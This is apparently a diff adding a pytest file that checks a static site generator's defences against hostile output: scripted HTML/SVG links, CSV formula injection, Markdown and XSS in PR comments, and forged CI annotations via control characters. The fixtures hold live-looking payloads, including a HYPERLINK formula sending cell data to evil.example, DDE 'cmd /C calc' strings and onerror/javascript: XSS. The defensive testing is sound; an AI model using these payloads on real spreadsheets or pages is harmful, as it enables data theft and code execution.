@@ -1,0 +1,428 @@
+"""Hostile input on the output side: linked files, spreadsheet formulas, JSON numbers,
+Markdown in the PR comment, control characters in printed locations, huge variant
+counts, broken templates and unwritable output folders.
+
+docs/security.md describes each defence; these tests hold it.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from helpers import MINIMAL_BLOCKS, ScratchProject, at, parse_html, run_cli
+
+from generator.formatting import escape_markdown, spreadsheet_cell
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 24
+PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
+SCRIPT_HTML = b"<html><body><script>alert(document.domain)</script></body></html>\n"
+SCRIPT_SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n'
+)
+
+
+def strict_json(text: str) -> Any:
+    """JSON as the standard defines it: `Infinity` and `NaN` are errors."""
+
+    def refuse(name: str) -> None:
+        raise ValueError(f"{name} is not JSON")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def links_charter(project: ScratchProject, links: list[tuple[str, str]]) -> str:
+    """The minimal charter with `links` (title, url) as its last block; returns the YAML."""
+    return project.charter("routing", links=[{"title": t, "url": u} for t, u in links])
+
+
+# --- linked files: an allow-list of inert types ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("notes/page.html", SCRIPT_HTML),
+        ("notes/PAGE.HTM", SCRIPT_HTML),
+        ("diagram.svg", SCRIPT_SVG),
+        ("diagram.Svg", SCRIPT_SVG),
+        ("app.js", b"alert(document.domain)\n"),
+        ("app.mjs", b"alert(document.domain)\n"),
+        ("page.xhtml", SCRIPT_HTML),
+        ("feed.xml", b"<?xml version='1.0'?><x/>\n"),
+        ("Makefile", b"all:\n"),
+        ("fake.png", SCRIPT_HTML),
+        ("fake.pdf", SCRIPT_HTML),
+        ("readme.txt", b"  <script>alert(1)</script>\n"),
+        ("readme.md", b"<!-- a comment --><img src=x onerror=alert(1)>\n"),
+        ("data.csv", b"<html>\n"),
+        ("data.json", b"\xef\xbb\xbf<?xml version='1.0'?>\n"),
+        ("latin1.txt", "caf\u00e9".encode("latin-1")),
+        ("nul.txt", b"text\x00more"),
+    ],
+)
+def test_a_linked_file_that_could_run_is_refused_at_its_link(
+    scratch_project: ScratchProject, name: str, content: bytes
+) -> None:
+    text = links_charter(scratch_project, [("Design doc", name)])
+    scratch_project.write(f"charters/routing/{name}", content)
+    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert result.exit_code == 1, result.output
+    where = at(text, "url: ", name)
+    line = next(x for x in result.stderr.splitlines() if "links[0].url" in x)
+    assert line.startswith(f"charters/routing/charter.yaml:{where}: links[0].url: {name!r}")
+    assert "cannot be published" in line
+    assert not scratch_project.out.exists()
+    assert "Traceback" not in result.output
+
+    checked = run_cli("check", "--source", scratch_project.root, "--format", "json")
+    assert checked.exit_code == 1
+    findings = strict_json(checked.stdout)["charters"][0]["findings"]
+    assert [
+        (f["code"], f["line"], f["severity"]) for f in findings if f["field"] == "links[0].url"
+    ] == [("link-type", int(where.split(":")[0]), "error")]
+
+
+def test_inert_linked_files_are_published_text_as_text(scratch_project: ScratchProject) -> None:
+    files = {
+        "docs/design.pdf": PDF,
+        "img/flow.png": PNG,
+        "img/photo.JPG": b"\xff\xd8\xff\xe0" + b"\x00" * 16,
+        "img/anim.gif": b"GIF89a" + b"\x00" * 16,
+        "img/pic.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 8,
+        "notes.txt": b"Notes: <b>not markup</b> in the middle is text.\n",
+        "README.md": b"# Title\n\n<script>alert(1)</script> after text stays text.\n",
+        "data/raw.json": b'{"a": 1}\n',
+    }
+    links_charter(scratch_project, [(name, name) for name in files])
+    for name, content in files.items():
+        scratch_project.write(f"charters/routing/{name}", content)
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    for name, content in files.items():
+        assert (scratch_project.out / "charters/routing" / name).read_bytes() == content, name
+
+
+def test_a_linked_csv_has_its_formulas_neutralised(scratch_project: ScratchProject) -> None:
+    links_charter(scratch_project, [("Raw", "raw.csv"), ("Clean", "clean.csv")])
+    raw = (
+        "name,value,link\r\n"
+        'a,-5,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
+        "b,+3.5,@SUM(1+1)*cmd|' /C calc'!A0\r\n"
+        'c,1e-3,"\tleading tab"\r\n'
+    )
+    clean = "name,value\na,-5\nb,+2\n"
+    scratch_project.write("charters/routing/raw.csv", raw)
+    scratch_project.write("charters/routing/clean.csv", clean)
+    assert scratch_project.build().ok
+    out = scratch_project.out / "charters/routing"
+    rows = list(csv.reader(io.StringIO((out / "raw.csv").read_text(encoding="utf-8"))))
+    assert rows == [
+        ["name", "value", "link"],
+        ["a", "-5", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
+        ["b", "+3.5", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+        ["c", "1e-3", "'\tleading tab"],
+    ]
+    assert (out / "raw.csv").read_bytes().count(b"\r\n") == 4  # line ends kept
+    assert (out / "clean.csv").read_text(encoding="utf-8") == clean  # untouched: same bytes
+
+
+# --- CSV downloads: no formulas --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5", "-5"),
+        ("+0.25", "+0.25"),
+        ("-1.5e-3", "-1.5e-3"),
+        ("plain note", "plain note"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_cell_follows_the_owasp_rule(cell: str, expected: str) -> None:
+    assert spreadsheet_cell(cell) == expected
+
+
+def test_results_csv_download_neutralises_formulas(scratch_project: ScratchProject) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write(
+        "charters/routing/results/ab.csv",
+        "date,metric,variant,value,note\n"
+        '2026-05-04,ttfr,control,6.1,"=HYPERLINK(""http://evil.example"",""x"")"\n'
+        "2026-05-04,ttfr,@treat,-5.0,+cmd|' /C calc'!A0\n",
+    )
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    text = (scratch_project.out / "charters/routing/results.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert sorted((r["variant"], r["value"], r["note"]) for r in rows) == [
+        ("'@treat", "-5", "'+cmd|' /C calc'!A0"),
+        ("control", "6.1", '\'=HYPERLINK("http://evil.example","x")'),
+    ]
+    # The JSON download keeps the values as written: it is not for spreadsheets.
+    data = strict_json((scratch_project.out / "charters/routing/results.json").read_text())
+    assert sorted(r["variant"] for r in data["rows"]) == ["@treat", "control"]
+
+
+# --- JSON: never Infinity or NaN --------------------------------------------------------------
+
+DENORMAL = (
+    MINIMAL_BLOCKS["business_metrics"]
+    .replace("direction: decrease", "direction: increase")
+    .replace("baseline: {value: 6.2}", "baseline: {value: 0.0}")
+    .replace("target: {value: 4.5}", "target: {value: 5.0e-324}")
+)
+
+
+def denormal_project(project: ScratchProject) -> None:
+    project.charter("routing", business_metrics=DENORMAL)
+    project.write(
+        "charters/routing/results/ab.csv",
+        "date,metric,variant,value\n2026-05-04,ttfr,,1.0\n",
+    )
+
+
+def test_api_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
+    denormal_project(scratch_project)
+    result = scratch_project.build()
+    assert result.ok, [d.format_text() for d in result.diagnostics]
+    for path in sorted(scratch_project.out.rglob("*.json")):
+        strict_json(path.read_text(encoding="utf-8"))  # every JSON file of the site
+    api = strict_json((scratch_project.out / "api/charters.json").read_text(encoding="utf-8"))
+    metric = api["charters"][0]["business_metrics"][0]
+    assert metric["target"] == 5e-324
+    assert metric["progress"] is None  # infinitely far past the target: not a number
+    assert metric["target_met"] is True
+
+
+def test_check_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
+    denormal_project(scratch_project)
+    result = run_cli("check", "--source", scratch_project.root, "--format", "json")
+    data = strict_json(result.stdout)
+    assert data["charters"][0]["metrics"][0]["progress"] is None
+    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
+
+
+def test_diff_json_is_valid_with_a_denormal_target(
+    scratch_project: ScratchProject, tmp_path: Path
+) -> None:
+    before = tmp_path / "before"
+    scratch_project.charter("routing")
+    shutil.copytree(scratch_project.root, before)
+    denormal_project(scratch_project)
+    result = run_cli(
+        "diff", before, scratch_project.root, "--source", scratch_project.root, "--format", "json"
+    )
+    assert result.exit_code == 0, result.output
+    data = strict_json(result.stdout)
+    (added,) = [c for c in data["changes"] if c["kind"] == "results-added"]
+    assert added["after"]["progress"] is None
+
+
+# --- the PR comment: charter text is never live Markdown --------------------------------------
+
+HOSTILE_TITLE = (
+    "Hi @acme/security-team and @octocat ![pixel](https://tracker.example/p.png)"
+    " [click](javascript:alert(1)) <img src=x onerror=alert(1)> fixes #12,"
+    " see https://evil.example and www.evil.example **bold** _it_ `code` ~~s~~ | pipe"
+    " &#64;entity \\ back"
+)
+
+
+def assert_no_live_markdown(text: str) -> None:
+    """Nothing of `text` is Markdown syntax once its backslash escapes are taken out."""
+    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
+    for raw in "<>[]()!*_`~|&":
+        assert raw not in bare, (raw, text)
+    for raw in ("https://", "www.", "@acme", "@octocat", "@here", "#12"):
+        assert raw not in text, (raw, text)
+
+
+def test_escape_markdown_leaves_no_live_syntax() -> None:
+    text = escape_markdown(HOSTILE_TITLE + "\n- not a list\n# not a heading\x1b[31m")
+    assert "\n" not in text and "\x1b" not in text
+    assert_no_live_markdown(text)
+    # Shown as written: removing the escapes gives the text back.
+    shown = text.replace("\\", "").replace("\u200b", "")
+    assert shown.startswith("Hi @acme/security-team and @octocat ![pixel](https://tracker")
+    assert escape_markdown("- item") == "\\- item"
+    assert escape_markdown("12. item") == "12\\. item"
+    assert escape_markdown("6.2 hours (2026-11-08)") == "6.2 hours \\(2026-11-08\\)"
+
+
+def test_diff_comment_shows_hostile_titles_as_text(
+    scratch_project: ScratchProject, tmp_path: Path
+) -> None:
+    before = tmp_path / "before"
+    scratch_project.charter("routing")
+    shutil.copytree(scratch_project.root, before)
+    scratch_project.charter(
+        "routing",
+        title=json.dumps(HOSTILE_TITLE),
+        status="experiment",
+        business_metrics=MINIMAL_BLOCKS["business_metrics"].replace(
+            "unit: hours", "unit: '@here ![t](https://t.example/u.png)'"
+        ),
+    )
+    scratch_project.write(
+        "charters/routing/results/ab.csv", "date,metric,variant,value\n2026-05-04,ttfr,,5.0\n"
+    )
+    result = run_cli("diff", before, scratch_project.root, "--source", scratch_project.root)
+    assert result.exit_code == 0, result.output
+    comment = result.stdout
+    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
+    assert_no_live_markdown(heading.split("`routing`", 1)[1])
+    row = next(x for x in comment.splitlines() if x.startswith("| `ttfr`"))
+    assert_no_live_markdown(row.replace("|", "").replace("`ttfr`", "").replace("(2026-05-04)", ""))
+    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
+    assert re.sub(r"\\(.)", r"\1", heading).replace("\u200b", "").endswith(HOSTILE_TITLE)
+
+
+# --- control characters in printed locations --------------------------------------------------
+
+
+def test_a_newline_in_a_file_name_cannot_forge_an_output_line(
+    scratch_project: ScratchProject,
+) -> None:
+    scratch_project.charter("routing")
+    forged = "x\n::error file=site.yaml,line=1::forged\x1b[2J"
+    (scratch_project.root / "charters" / forged).mkdir()
+    for fmt in ("text", "github"):
+        result = run_cli("check", "--source", scratch_project.root, "--format", fmt)
+        assert result.exit_code == 1, result.output
+        lines = result.stdout.splitlines()
+        assert not [x for x in lines if x.startswith("::error file=site.yaml")], lines
+        assert "\x1b" not in result.stdout
+        assert any("x\\n::error" in x or "x%0A::error" in x for x in lines), lines
+    build = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert build.exit_code == 1
+    assert not [x for x in build.stderr.splitlines() if x.startswith("::error")]
+    assert "charters/x\\n::error file=site.yaml,line=1::forged\\x1b[2J" in build.stderr
+
+
+# --- 10,000 variants: a chart draws the top few -----------------------------------------------
+
+
+def test_ten_thousand_variants_build_in_seconds(scratch_project: ScratchProject) -> None:
+    scratch_project.charter("routing", status="experiment")
+    lines = ["date,metric,variant,value", "2026-05-04,ttfr,control,6.0"]
+    lines += [f"2026-05-04,ttfr,v{i:05d},{5 + (i % 100) / 100}" for i in range(10_000)]
+    lines += ["2026-05-11,ttfr,v09999,4.9"]
+    scratch_project.write("charters/routing/results/many.csv", "\n".join(lines) + "\n")
+    started = time.perf_counter()
+    result = scratch_project.build()
+    elapsed = time.perf_counter() - started
+    assert result.ok, [d.format_text() for d in result.diagnostics][:5]
+    assert elapsed < 60, f"{elapsed:.1f} s"  # about 5 s; 1,000 variants took 46 s before
+    page = parse_html(scratch_project.out / "charters/routing/index.html")
+    alt = page.find("img", src="ttfr.svg").attrs["alt"] or ""
+    assert alt.endswith("+9,992 more variants, see the data table.")
+    assert "v09999 5.99 → 4.90" in alt and "control 6.00" in alt  # most rows first
+    svg = (scratch_project.out / "charters/routing/ttfr.svg").read_text(encoding="utf-8")
+    assert "+9,992 more variants, see the data table" in svg
+    assert "v00500" not in svg  # left out of the chart ...
+    table = page.find("figure", id="chart-ttfr").find("table")
+    assert "v00500" in table.text()  # ... but in its data table
+
+
+# --- templates: located errors ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("template", "expected"),
+    [
+        (
+            '{% extends "builtin/charter.html" %}\n{% block content %}\n{{ view.id }\n'
+            "{% endblock %}\n",
+            "templates/charter.html:3:1: template syntax error: unexpected '}'",
+        ),
+        (
+            '{% extends "builtin/charter.html" %}\n{% block content %}\n<p>\n'
+            "{{ no_such_value.title }}</p>\n{% endblock %}\n",
+            "templates/charter.html:4:1: template error: undefined value:"
+            " 'no_such_value' is undefined",
+        ),
+        (
+            "{% include 'missing.html' %}\n",
+            "templates/charter.html:1:1: template 'missing.html' not found",
+        ),
+    ],
+)
+def test_a_broken_template_is_a_located_error(
+    scratch_project: ScratchProject, template: str, expected: str
+) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write("templates/charter.html", template)
+    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert any(line.startswith(expected) for line in result.stderr.splitlines()), result.stderr
+    assert not scratch_project.out.exists()
+
+
+# --- output folders that cannot be written ----------------------------------------------------
+
+
+@pytest.fixture
+def small_mount(tmp_path: Path) -> Iterator[Path]:
+    """A 256 KB tmpfs, mounted for the test (needs root; skipped otherwise, failed in CI)."""
+    mount = tmp_path / "mnt"
+    mount.mkdir()
+    done = subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
+        capture_output=True,
+        check=False,
+    )
+    if done.returncode != 0:
+        if os.environ.get("CI", "").lower() in ("true", "1", "yes"):
+            pytest.fail(f"cannot mount a tmpfs in CI: {done.stderr.decode().strip()}")
+        pytest.skip("mounting a tmpfs needs root")
+    try:
+        yield mount
+    finally:
+        subprocess.run(["umount", "-l", str(mount)], check=False)
+
+
+def test_a_full_disk_is_a_clear_message(scratch_project: ScratchProject, small_mount: Path) -> None:
+    scratch_project.charter("routing")
+    scratch_project.write("charters/routing/big.txt", "x" * 400_000)
+    scratch_project.charter("routing", links=[{"title": "Big", "url": "big.txt"}])
+    out = small_mount / "site"
+    result = run_cli("build", "--source", scratch_project.root, "--out", out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert f"error: cannot write the site to {out}: No space left on device" in result.stderr
+    assert "the previous site is unchanged" in result.stderr
+
+
+def test_a_read_only_output_folder_is_a_clear_message(
+    scratch_project: ScratchProject, small_mount: Path
+) -> None:
+    scratch_project.charter("routing")
+    out = small_mount / "site"
+    assert run_cli("build", "--source", scratch_project.root, "--out", out).exit_code == 0
+    before = sorted(p.relative_to(out) for p in out.rglob("*"))
+    subprocess.run(["mount", "-o", "remount,ro", str(small_mount)], check=True)
+    scratch_project.charter("routing", title="Changed")
+    result = run_cli("build", "--source", scratch_project.root, "--out", out)
+    assert result.exit_code == 1
+    assert "internal error" not in result.output
+    assert f"error: cannot write the site to {out}: Read-only file system" in result.stderr
+    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
